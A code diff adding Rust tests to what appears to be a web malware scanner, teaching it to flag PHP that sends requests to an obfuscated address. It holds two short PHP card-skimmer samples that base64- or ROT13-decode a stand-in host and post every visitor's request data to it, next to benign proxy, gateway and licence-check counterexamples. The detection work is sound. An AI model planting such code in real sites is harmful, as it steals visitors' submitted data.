@@ -370,6 +370,13 @@ fn each_fixture_is_reported_for_its_family() {
             Why::StealsCookies,
         ),
         (
+            "bootstrap_forwards_requests_to_hidden_address.php",
+            include_str!(
+                "../../../../tests/fixtures/sweep/malicious/bootstrap_forwards_requests_to_hidden_address.php"
+            ),
+            Why::SendsRequestToHiddenAddress,
+        ),
+        (
             "restores_code_from_picture.php",
             include_str!("../../../../tests/fixtures/sweep/malicious/restores_code_from_picture.php"),
             Why::RestoresFromDisguise,
@@ -479,4 +486,35 @@ fn a_page_dressed_as_a_providers_sign_in_that_mails_what_it_is_sent_is_phishing(
     let own =
         "<html><head><title>Log in with Google | Demo Shop</title></head><body><?php echo $button; ?></body></html>";
     assert!(found(own).is_empty());
+}
+
+#[test]
+fn a_whole_request_posted_to_an_address_hidden_in_the_code_is_a_skimmer() {
+    let skimmer = "<?php $c = curl_init(base64_decode('aHR0cHM6Ly94LmV4YW1wbGUv'));\n\
+                   curl_setopt($c, CURLOPT_POSTFIELDS, json_encode($_REQUEST)); curl_exec($c);";
+    assert!(found(skimmer).contains(&Why::SendsRequestToHiddenAddress));
+    let by_option = "<?php $u = str_rot13('uggcf://k.rknzcyr/'); $c = curl_init();\n\
+                     curl_setopt($c, CURLOPT_URL, $u); $b = file_get_contents('php://input');\n\
+                     curl_setopt($c, CURLOPT_POSTFIELDS, $b); curl_exec($c);";
+    assert!(found(by_option).contains(&Why::SendsRequestToHiddenAddress));
+}
+
+#[test]
+fn a_proxy_or_a_plugin_posting_to_a_written_address_is_not_a_skimmer() {
+    // The address is the visitor's (a web proxy decodes what it is sent).
+    let proxy = "<?php $c = curl_init(); curl_setopt($c, CURLOPT_URL, base64_decode($_GET['u']));\n\
+                 curl_setopt($c, CURLOPT_POSTFIELDS, $_POST); echo curl_exec($c);";
+    assert!(!found(proxy).contains(&Why::SendsRequestToHiddenAddress));
+    // The address is written out (a payment gateway's API).
+    let gateway = "<?php $c = curl_init('https://api.gateway.example/charge');\n\
+                   curl_setopt($c, CURLOPT_POSTFIELDS, http_build_query($_POST)); curl_exec($c);";
+    assert!(!found(gateway).contains(&Why::SendsRequestToHiddenAddress));
+    // A hidden address told only the site's name (a licence check), not what visitors send.
+    let licence = "<?php $c = curl_init(base64_decode('aHR0cHM6Ly9saWMuZXhhbXBsZS8='));\n\
+                   curl_setopt($c, CURLOPT_POSTFIELDS, ['site' => $_SERVER['HTTP_HOST'], 'key' => $_POST['key']]);\n\
+                   curl_exec($c);";
+    assert!(!found(licence).contains(&Why::SendsRequestToHiddenAddress));
+    let asked = "<?php if (!empty($_POST)) { $c = curl_init(base64_decode('aHR0cHM6Ly9saWMuZXhhbXBsZS8='));\n\
+                 curl_setopt($c, CURLOPT_POSTFIELDS, ['site' => $_SERVER['HTTP_HOST']]); curl_exec($c); }";
+    assert!(!found(asked).contains(&Why::SendsRequestToHiddenAddress));
 }
